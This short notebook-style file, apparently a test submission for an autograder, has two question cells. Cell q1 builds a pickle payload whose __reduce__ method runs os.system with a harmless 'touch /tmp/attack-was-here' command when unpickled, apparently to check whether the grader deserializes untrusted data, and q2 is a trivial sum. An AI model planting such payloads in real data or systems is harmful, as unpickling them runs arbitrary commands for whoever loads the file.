# %%
# question: q1
values = [0.0]
def affine(x): return x * 0
import pickle, os
class X:
    def __reduce__(self): return os.system, ('touch /tmp/attack-was-here',)
payload = X(); data = pickle.dumps(payload)

# %%
# question: q2
total = sum(range(10))
